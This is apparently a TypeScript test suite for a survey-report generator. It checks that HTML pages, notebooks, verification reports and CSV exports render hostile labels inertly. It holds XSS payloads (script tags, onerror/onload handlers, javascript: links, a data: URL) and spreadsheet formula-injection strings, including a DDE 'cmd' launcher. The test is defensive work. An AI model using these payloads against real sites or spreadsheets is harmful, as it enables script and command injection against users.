import { strict as assert } from "node:assert";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import * as aq from "arquero";
import { loadCodebook, type Codebook } from "../../src/data/codebook.js";
import { csvRecords } from "../../src/data/csv.js";
import { readLimeSurvey } from "../../src/data/import-limesurvey.js";
import { loadSurvey } from "../../src/data/load.js";
import { numberRows } from "../../src/figures/common/numbers.js";
import { figures } from "../../src/figures/index.js";
import type { PlotlyFigure } from "../../src/figures/common/types.js";
import { figureBundle, tableBundle } from "../../src/notebook/display/display.js";
import { bundleFor, libraryBundle } from "../../src/notebook/display/plotly-library.js";
import type { Notebook } from "../../src/notebook/format/nbformat.js";
import { paths } from "../../src/paths.js";
import { writeBook } from "../../src/book/book.js";
import { figureCsv } from "../../src/render/figure-csv.js";
import { figurePage } from "../../src/render/figure-html.js";
import { chromiumPath } from "../../src/render/render-static.js";
import { sharedChromium } from "../helpers/browser.js";
import { verificationHtml } from "../../src/verify/verification-report.js";
import { verifyPublished, type Verification } from "../../src/verify/verify.js";
import { claimsEvidence, type ClaimEvidence } from "../../src/verify/claim-evidence.js";
import { escapeHtml } from "../../src/util/html.js";
import { notePart } from "../../src/util/note.js";
import { csvCell } from "../../src/util/csv-write.js";
import { runReport, tempFolder, treeHashes } from "./helpers.js";

/** Markup that runs script when a page renders it as HTML; each records itself in window.__xss. */
const payloads = [
  `<script>(window.__xss=window.__xss||[]).push("script")</script>`,
  `"><img src=x onerror="(window.__xss=window.__xss||[]).push('img')">`,
  `'><svg onload=(window.__xss=window.__xss||[]).push('svg')>`,
  `</script><script>(window.__xss=window.__xss||[]).push("close-script")</script>`,
  `<iframe srcdoc="<script>parent.__xss=(parent.__xss||[]).concat('iframe')</script>"></iframe>`,
  `<a href="javascript:(window.__xss=window.__xss||[]).push('href')">link</a>`,
  `<svg/onload=(window.__xss=window.__xss||[]).push('svg-slash')>`,
  `<img src=x onerror=(window.__xss=window.__xss||[]).push('img-bare')>`,
];
const all = payloads.join(" ");

/** The codebook with every translated text (labels, captions, titles, UI words) prefixed by a payload. */
function hostileCodebook(prefixes = payloads): Codebook {
  let n = 0;
  const walk = (v: unknown): unknown => {
    if (Array.isArray(v)) return v.map(walk);
    if (v && typeof v === "object") {
      const o = v as Record<string, unknown>;
      if (typeof o.de === "string" && typeof o.en === "string") {
        const p = prefixes[n++ % prefixes.length]!;
        return { ...o, de: `${p} ${o.de}`, en: `${p} ${o.en}` };
      }
      return Object.fromEntries(Object.entries(o).map(([k, x]) => [k, walk(x)]));
    }
    return v;
  };
  return walk(structuredClone(loadCodebook())) as Codebook;
}

/** Markdown links whose targets run script if they became live links, in each spelling Markdown allows. */
const markdownLinks = [
  "[plain](javascript:(window.__xss=window.__xss||[]).push('md-link'))",
  "[upper](JAVASCRIPT:(window.__xss=window.__xss||[]).push('md-upper'))",
  "[entity](&#106;avascript:(window.__xss=window.__xss||[]).push('md-entity'))",
  "[ref][r]\n\n[r]: javascript:(window.__xss=window.__xss||[]).push('md-ref')",
  "<javascript:(window.__xss=window.__xss||[]).push('md-autolink')>",
  "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[vb](vbscript:msgbox(1))",
  "![img](javascript:(window.__xss=window.__xss||[]).push('md-img'))",
  `[a safe link](https://example.org/ "${payloads[1]!.replace(/"/g, "")}")`,
].join("\n\n");

/** A Markdown table whose cells carry the payloads. */
const markdownTable = `| label | answer |\n|---|---|\n${payloads.map((p) => `| ${p.replace(/\|/g, "")} | x |`).join("\n")}`;

/** A chapter notebook whose every text carries the payloads, in every kind of output. */
function hostileNotebook(fig: PlotlyFigure): Notebook {
  const table = aq.table({ label: payloads, answer: payloads.map((p) => `free text: ${p}`) });
  const code = (source: string, outputs: unknown[]) => ({
    id: `c${source.length}`,
    cell_type: "code",
    metadata: {},
    source,
    execution_count: 1,
    outputs,
  });
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {},
    cells: [
      {
        id: "m1",
        cell_type: "markdown",
        metadata: {},
        source: `# Title ${all}\n\n- item ${all}\n\n*${payloads[0]}* **${payloads[1]}** \`${payloads[2]}\`\n\n${markdownLinks}\n\n${markdownTable}`,
      },
      code(`console.log(${JSON.stringify(all)})`, [
        { output_type: "stream", name: "stdout", text: `${all}\n` },
        { output_type: "display_data", metadata: {}, data: { "text/plain": `plain ${all}` } },
        { output_type: "display_data", metadata: {}, data: tableBundle(table) },
        { output_type: "display_data", metadata: {}, data: figureBundle(fig) },
        { output_type: "error", ename: `Error${payloads[0]}`, evalue: all, traceback: [all] },
      ]),
    ],
  } as unknown as Notebook;
}

/** Verification rows whose texts carry the payloads: id, figure, quote, the note and the values of its parts. */
function hostileVerification(): Verification[] {
  return verifyPublished(loadSurvey())
    .slice(0, 5)
    .map((v, i) => ({
      ...v,
      id: `${v.id}${payloads[i]}`,
      figure: i % 2 ? "abb-01" : payloads[i + 1]!,
      quote: all,
      note: all,
      noteParts: [
        notePart("note_reason", { text: all }),
        notePart("note_share", { variable: payloads[i]!, share: all }),
      ],
    }));
}

/** Tested claims whose id, figure and words carry the payloads. */
function hostileClaims(): ClaimEvidence[] {
  return (claimsEvidence(loadSurvey()).objects() as unknown as ClaimEvidence[]).slice(0, 3).map((c, i) => ({
    ...c,
    id: `${c.id}${payloads[i]}`,
    figure: i ? payloads[i]! : c.figure,
    claimDe: all,
    claimEn: all,
  }));
}

describe("HTML outputs with hostile labels and free text, in headless Chromium", function () {
  this.timeout(600_000);
  let browser: import("playwright-core").Browser | undefined;
  let dir: string;
  const cb = hostileCodebook();
  const table = loadSurvey();
  const built = figures.map((f) => f.build(table, { codebook: cb }));

  before(async function () {
    const exe = chromiumPath();
    if (!exe) {
      if (process.env.INTERSPIN_REQUIRE_CHROMIUM === "1")
        throw new Error("INTERSPIN_REQUIRE_CHROMIUM=1 but no Chromium (apt-get install chromium)");
      this.skip();
    }
    dir = tempFolder("interspin-xss-");
    writeFileSync(join(dir, "plotly.min.js"), readFileSync(paths.plotlyBundle));
    browser = (await sharedChromium())!;
  });
  after(async () => browser?.close());

  let tab: import("playwright-core").Page | undefined;
  const dialogs: string[] = [];
  const errors: string[] = [];

  /**
   * Opens a page from disk, hovers over it, and returns what ran: window.__xss, dialogs, and
   * elements that only markup from data could have made (img, iframe, on* attributes, javascript: links).
   */
  /**
   * Opens a page, moves the mouse over it and reports what ran and how many charts it drew. A page
   * that draws figures (`plots`) is given until they are all drawn (the live book draws a chapter's
   * figures once its kernel is ready, those below the screen while the page is idle), at most 30 s.
   */
  async function probe(
    file: string,
    plots = 0,
  ): Promise<{ ran: unknown; dialogs: string[]; injected: string[]; plots: number; errors: string[] }> {
    // One tab for every probe: a fresh document each, plotly.js compiled once.
    if (!tab) {
      tab = await browser!.newPage();
      tab.on("dialog", (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      tab.on("pageerror", (e) => errors.push(String(e)));
    }
    const page = tab;
    dialogs.length = 0;
    errors.length = 0;
    await page.goto(`file://${file}`);
    await page.waitForLoadState("load");
    await page.waitForTimeout(200);
    if (plots > 0)
      await page
        .waitForFunction((n) => document.querySelectorAll(".js-plotly-plot").length >= n, plots, { timeout: 30_000 })
        .catch(() => undefined);
    for (const [x, y] of [
      [300, 200],
      [450, 250],
      [600, 300],
      [200, 400],
    ])
      await page.mouse.move(x!, y!);
    await page.waitForTimeout(200);
    const result = (await page.evaluate(`(() => {
      const injected = [];
      for (const el of document.querySelectorAll("*")) {
        if (["IMG", "IFRAME", "OBJECT", "EMBED"].includes(el.tagName.toUpperCase())) injected.push(el.tagName.toUpperCase());
        for (const a of el.getAttributeNames()) if (/^on/i.test(a)) injected.push(el.tagName + "[" + a + "]");
        const href = el.getAttribute("href") || el.getAttribute("xlink:href") || "";
        if (/^\\s*javascript:/i.test(href)) injected.push(el.tagName + "[href=javascript:]");
      }
      return { ran: window.__xss, injected, plots: document.querySelectorAll(".js-plotly-plot").length };
    })()`)) as { ran: unknown; injected: string[]; plots: number };
    return { ...result, dialogs: [...dialogs], errors: [...errors] };
  }

  function assertInert(r: Awaited<ReturnType<typeof probe>>, what: string): void {
    assert.equal(r.ran, undefined, `${what}: script from data ran (${JSON.stringify(r.ran)})`);
    assert.deepEqual(r.dialogs, [], `${what}: a dialog opened`);
    assert.deepEqual(r.injected, [], `${what}: markup from data became elements`);
  }

  it("the probe sees the payloads run when a page does not escape them (control)", async () => {
    const file = join(dir, "unescaped.html");
    writeFileSync(file, `<!DOCTYPE html><html><body><p>${all}</p><div title="${payloads[1]}"></div></body></html>`);
    const r = await probe(file);
    assert.ok(Array.isArray(r.ran) && r.ran.includes("script") && r.ran.includes("svg"), JSON.stringify(r.ran));
    assert.ok(r.injected.includes("IMG") && r.injected.includes("IFRAME"), r.injected.join(" "));
  });

  it("the labels really carry the payloads (figures, captions, hover texts)", () => {
    const json = JSON.stringify(built);
    for (const p of payloads) assert.ok(json.includes(JSON.stringify(p).slice(1, -1)), p);
    assert.ok(
      built.every(
        (f) =>
          f.layout.meta.title.startsWith("<") ||
          f.layout.meta.title.startsWith('"') ||
          f.layout.meta.title.startsWith("'"),
      ),
    );
  });

  // One figure of each chart kind here; the book's gallery below draws all of them.
  it("standalone figure pages (Likert by item and by group, heatmap, bars, bars by group): the figure draws and no script from a label runs", async () => {
    for (const fig of built.filter((f) =>
      ["abb-01", "abb-03", "abb-06", "abb-08", "abb-09"].includes(f.layout.meta.id),
    )) {
      const file = join(dir, `${fig.layout.meta.id}.html`);
      writeFileSync(file, figurePage(fig, "plotly.min.js"));
      const r = await probe(file);
      assertInert(r, fig.layout.meta.id);
      assert.deepEqual(r.errors, [], fig.layout.meta.id);
      assert.equal(r.plots, 1, `${fig.layout.meta.id} draws`);
    }
  });

  it("notebook text/html of a figure and of a table with free-text answers: nothing runs", async () => {
    const t = aq.table({ label: payloads, answer: payloads.map((p) => `free text: ${p}`) });
    const body =
      String(libraryBundle(bundleFor(built.slice(0, 3)))["text/html"]) +
      built
        .slice(0, 3)
        .map((f) => figureBundle(f)["text/html"])
        .join("\n") +
      tableBundle(t)["text/html"];
    const file = join(dir, "notebook-outputs.html");
    writeFileSync(file, `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body>${body}</body></html>`);
    const r = await probe(file);
    assertInert(r, "notebook outputs");
    assert.equal(r.plots, 3);
  });

  it("the book: chapter (markdown, code, stream, text, table, figure, error outputs), gallery and verification pages", async () => {
    const out = tempFolder("interspin-xss-book-");
    const chapter = { name: "03-partnerwahl", notebook: hostileNotebook(built[0]!) };
    const figureNumbers = new Map(figures.map((f) => [f.id, numberRows(f.numbers(table, { codebook: cb }))]));
    writeBook(
      {
        chapters: [chapter],
        figures: new Map(built.map((f) => [f.layout.meta.id, f])),
        figureNumbers,
        verification: hostileVerification(),
        lang: "de",
      },
      out,
    );
    const expected: Record<string, number> = {
      "03-partnerwahl.html": 1,
      "gallery.html": 0,
      ...Object.fromEntries(built.map((f) => [`figure-${f.layout.meta.id}.html`, 1])),
      "verification.html": 0,
      "assumptions.html": 0,
      "index.html": 0,
    };
    for (const [p, plots] of Object.entries(expected)) {
      const r = await probe(join(out, "site", "de", p), plots);
      assertInert(r, p);
      assert.equal(r.plots, plots, `${p} draws its figures`);
    }
    const html = readFileSync(join(out, "site", "de", "03-partnerwahl.html"), "utf8");
    // The Markdown table is a table, its payloads text; the one safe link is the only link from the Markdown.
    assert.match(html, /<table>\s*<thead>\s*<tr>\s*<th>label<\/th>/);
    assert.ok(
      html.includes("<td>&lt;script&gt;(window.__xss=window.__xss||[]).push(&quot;script&quot;)&lt;/script&gt;</td>"),
      "payload in a table cell is text",
    );
    assert.deepEqual(
      [...html.matchAll(/<a href="([^"#]*)"/g)].map((m) => m[1]).filter((h) => !h!.endsWith(".html")),
      ["https://example.org/"],
    );
  });

  it("the verification report page", async () => {
    const file = join(dir, "verification.html");
    writeFileSync(file, verificationHtml(hostileVerification(), "de", hostileClaims()));
    assertInert(await probe(file), "verification.html");
    const html = readFileSync(file, "utf8");
    assert.ok(html.includes("&lt;script&gt;"), "the payload is shown as text");
    assert.ok(
      html.includes(
        `<p class="vnote"><span>Anmerkung:</span> ${escapeHtml(all)}; ${escapeHtml(payloads[0]!)}=${escapeHtml(all)}</p>`,
      ),
      "a note with payloads in its parts is text",
    );
  });

  it("a report run on survey data whose free-text ids carry the payloads: no output holds them as markup, no script runs", async () => {
    const data = join(tempFolder("interspin-xss-data-"), "hostile.csv");
    const lines = readFileSync(paths.survey, "utf8").split("\n");
    const cell = (s: string) => `"${s.replace(/"/g, '""')}"`;
    writeFileSync(
      data,
      lines
        .map((l, i) => (i === 0 || !l ? l : l.replace(/^[^,]*/, (id) => cell(`${id}${payloads[i % payloads.length]}`))))
        .join("\n"),
    );
    const out = join(tempFolder("interspin-xss-run-"), "output");
    const r = await runReport(["--data", data, "--out", out, "--no-static", "--chapters", "02"]);
    assert.equal(r.code, 0, r.stderr);
    for (const f of treeHashes(out).keys()) {
      if (f.endsWith("plotly.min.js")) continue;
      const text = readFileSync(join(out, f), "utf8");
      for (const p of payloads) assert.ok(!text.includes(p), `${f} holds a payload unescaped`);
    }
    for (const p of [
      "site/de/02-methodisches-vorgehen.html",
      "site/en/02-methodisches-vorgehen.html",
      "site/de/verification.html",
      "site/de/figure-abb-01.html",
      "site/en/figure-abb-01.html",
      "verification.html",
      "figures/abb-01.html",
    ])
      assertInert(await probe(join(out, p)), p);
  });

  it("the book shows a notebook's own HTML output as text unless it is exactly a project table", async () => {
    const out = tempFolder("interspin-xss-book-");
    const nb = hostileNotebook(built[0]!);
    const html = `<table class="interspin-table"><tr><td>${payloads[6]}</td></tr></table>`;
    (nb.cells[1] as { outputs: unknown[] }).outputs = [
      { output_type: "display_data", metadata: {}, data: { "text/html": html, "text/plain": "table" } },
    ];
    writeBook({ chapters: [{ name: "01-x", notebook: nb }], figures: new Map(), verification: [], lang: "de" }, out);
    assertInert(await probe(join(out, "site", "de", "01-x.html")), "own HTML output");
  });
});

describe("free-text answers from a LimeSurvey export", () => {
  it("are not imported, so they cannot reach any output", () => {
    const text = readFileSync(join(paths.root, "test", "fixtures", "limesurvey", "export.csv"), "utf8");
    const hostile = text.replace('"Verband für Innovation, e.V."', `"${all.replace(/"/g, '""')}"`);
    assert.notEqual(hostile, text, "the fixture has the free-text answer this test replaces");
    const { table } = readLimeSurvey(Buffer.from(hostile), {
      mapping: join(paths.root, "test", "fixtures", "limesurvey", "mapping.json"),
      file: "export.csv",
    });
    const json = JSON.stringify(table.objects());
    for (const marker of ["<script", "onerror", "onload", "javascript:"]) assert.ok(!json.includes(marker), marker);
  });
});

describe("CSV exports against spreadsheet formula injection", () => {
  const starts = [
    `=HYPERLINK("http://example.org/?x="&A1,"klick")`,
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
  ];
  const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

  it("neutralise every cell a spreadsheet would evaluate, and keep negative numbers as numbers", () => {
    for (const s of starts) assert.ok(csvCell(s).replace(/^"/, "").startsWith("'"), JSON.stringify(csvCell(s)));
    assert.equal(csvCell(-9), "-9");
    assert.equal(csvCell("-9"), "-9");
    assert.equal(csvCell("-0.5"), "-0.5");
  });

  it("every figure CSV built with labels that start like formulas holds no cell a spreadsheet would evaluate", () => {
    const cb = hostileCodebook(starts);
    const table = loadSurvey();
    for (const f of figures) {
      const text = figureCsv(f.numbers(table, { codebook: cb }));
      assert.ok(
        starts.some((s) => text.includes(s.replace(/"/g, '""').trim())),
        `${f.id}: the labels carry the formulas`,
      );
      const cells = [...csvRecords(text, `${f.id}.csv`)].flatMap((r) => r.fields);
      const live = cells.filter(isFormula);
      assert.deepEqual(live, [], `${f.id}: cells a spreadsheet would evaluate`);
    }
  });
});
